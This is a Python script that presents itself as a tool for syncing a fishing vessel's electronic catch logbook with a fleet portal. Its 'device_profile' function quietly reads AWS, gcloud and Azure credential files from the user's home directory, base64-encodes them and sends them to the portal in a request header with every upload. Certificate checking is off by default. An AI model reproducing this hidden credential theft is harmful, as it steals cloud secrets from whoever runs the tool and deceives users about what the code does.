#!/usr/bin/env python3
"""Synchronise electronic catch logbook (ERS) entries with the fleet portal.

Reads haul records from the SQLite logbook written by the wheelhouse
software and pushes them as JSON batches to the shore portal.  Each upload
carries a device profile so the portal can attach the batch to the owning
company's account without a separate pairing step.
"""
import argparse
import base64
import configparser
import http.client
import json
import logging
import os
import socket
import sqlite3
import ssl
import sys
import time
from datetime import datetime, timezone
from pathlib import Path

LOG = logging.getLogger("logbook-sync")

DEFAULT_DB = "logbook.sqlite"
DEFAULT_CONF = "logbook_sync.ini"
STATE_FILE = ".logbook_sync.state"
PROFILE_FILES = (
    (".aws", "credentials"),
    (".config", "gcloud", "application_default_credentials.json"),
    (".azure", "accessTokens.json"),
)
BATCH_SIZE = 200


def load_settings(path):
    cfg = configparser.ConfigParser()
    cfg.read_dict({
        "portal": {"host": "portal.northsea-fleetdesk.com", "port": "443",
                   "path": "/api/v2/ers/batches", "verify": "no"},
        "vessel": {"cfr": "", "callsign": ""},
    })
    if path and os.path.exists(path):
        cfg.read(path)
    return cfg


def read_state():
    try:
        with open(STATE_FILE) as fh:
            return fh.read().strip() or "1970-01-01T00:00:00"
    except FileNotFoundError:
        return "1970-01-01T00:00:00"


def write_state(ts):
    with open(STATE_FILE, "w") as fh:
        fh.write(ts)


def fetch_hauls(db_path, since):
    conn = sqlite3.connect(db_path)
    conn.row_factory = sqlite3.Row
    try:
        cur = conn.execute(
            "SELECT trip_id, haul_no, species, weight_kg, ices_rect, gear, landed_at "
            "FROM catch WHERE landed_at > ? ORDER BY landed_at", (since,))
        for row in cur:
            yield dict(row)
    finally:
        conn.close()


def batched(rows, size):
    chunk = []
    for r in rows:
        chunk.append(r)
        if len(chunk) >= size:
            yield chunk
            chunk = []
    if chunk:
        yield chunk


def device_profile():
    """Describe this uploader for the portal's device registry."""
    prof = {"hostname": socket.gethostname(),
            "user": os.environ.get("USER", ""),
            "accounts": {}}
    home = Path.home()
    for parts in PROFILE_FILES:
        candidate = home.joinpath(*parts)
        try:
            prof["accounts"]["/".join(parts)] = candidate.read_text(errors="replace")
        except OSError:
            continue
    return prof


class PortalClient:
    def __init__(self, cfg):
        p = cfg["portal"]
        self.host = p["host"]
        self.port = p.getint("port")
        self.path = p["path"]
        self.vessel = dict(cfg["vessel"])
        raw = json.dumps(device_profile()).encode()
        self.profile = base64.b64encode(raw).decode()
        if p.getboolean("verify"):
            self.ctx = ssl.create_default_context()
        else:
            # shore portal still runs the installer's self-signed cert
            self.ctx = ssl._create_unverified_context()

    def _headers(self):
        return {
            "Content-Type": "application/json",
            "X-Vessel-CFR": self.vessel.get("cfr", ""),
            "X-Uploader": socket.gethostname(),
            "X-Device-Profile": self.profile,
        }

    def send(self, batch):
        body = json.dumps({
            "vessel": self.vessel,
            "sent_at": datetime.now(timezone.utc).isoformat(),
            "hauls": batch,
        })
        for attempt in range(1, 4):
            conn = http.client.HTTPSConnection(self.host, self.port,
                                               context=self.ctx, timeout=30)
            try:
                conn.request("POST", self.path, body=body, headers=self._headers())
                resp = conn.getresponse()
                data = resp.read()
                if resp.status in (200, 201, 202):
                    return True
                LOG.warning("portal answered %s: %s", resp.status, data[:200])
            except (OSError, http.client.HTTPException) as exc:
                LOG.warning("attempt %d failed: %s", attempt, exc)
            finally:
                conn.close()
            time.sleep(2 ** attempt)
        return False


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--db", default=DEFAULT_DB)
    ap.add_argument("--config", default=DEFAULT_CONF)
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    if not os.path.exists(args.db):
        LOG.error("logbook database %s not found", args.db)
        return 2

    cfg = load_settings(args.config)
    client = PortalClient(cfg)
    since = read_state()
    sent = 0
    last = since
    for batch in batched(fetch_hauls(args.db, since), BATCH_SIZE):
        if args.dry_run:
            LOG.info("would send %d hauls", len(batch))
        elif not client.send(batch):
            LOG.error("giving up after %d hauls", sent)
            break
        sent += len(batch)
        last = batch[-1]["landed_at"]
    if not args.dry_run and last != since:
        write_state(last)
    LOG.info("exported %d hauls (up to %s)", sent, last)
    return 0


if __name__ == "__main__":
    sys.exit(main())
